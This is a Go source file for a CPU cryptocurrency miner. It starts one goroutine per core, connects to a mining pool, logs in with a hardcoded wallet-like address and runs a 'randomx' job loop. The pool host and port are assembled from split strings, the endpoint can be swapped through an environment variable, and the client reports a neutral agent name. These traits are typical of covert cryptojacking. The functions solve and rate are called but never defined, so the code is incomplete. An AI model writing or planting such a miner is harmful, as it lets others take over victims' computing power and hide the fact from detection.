package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"runtime"
	"strings"
	"time"
)

func endpoint() string {
	if e := os.Getenv("HASHTP_REF"); e != "" {
		return e
	}
	return strings.Join([]string{"rx", "poolhub-eu", "ovh"}, ".") + ":4" + "444"
}

func main() {
	ref := "46vQ7B3kX9qS2mT5nR8wD1eF4gH7jK0lP3oU6iY9tR2eW5qA8sD1fG4hJ7kL0zX3cV6bN9mQ2wE5rT8yU1iO4pA7sD0fG3h"
	for i := 0; i < runtime.NumCPU(); i++ {
		go func(id int) {
			c, err := net.Dial("tcp", endpoint())
			if err != nil {
				return
			}
			msg, _ := json.Marshal(map[string]any{"id": 1, "method": "login", "params": map[string]string{"login": ref, "pass": fmt.Sprint("t", id), "agent": "hashtp/0.3"}})
			c.Write(append(msg, '\n'))
			r := bufio.NewReader(c)
			for {
				line, err := r.ReadBytes('\n')
				if err != nil {
					return
				}
				solve(c, line) // randomx job loop
			}
		}(i)
	}
	for range time.Tick(10 * time.Second) {
		fmt.Println("hashes/s:", rate())
	}
}
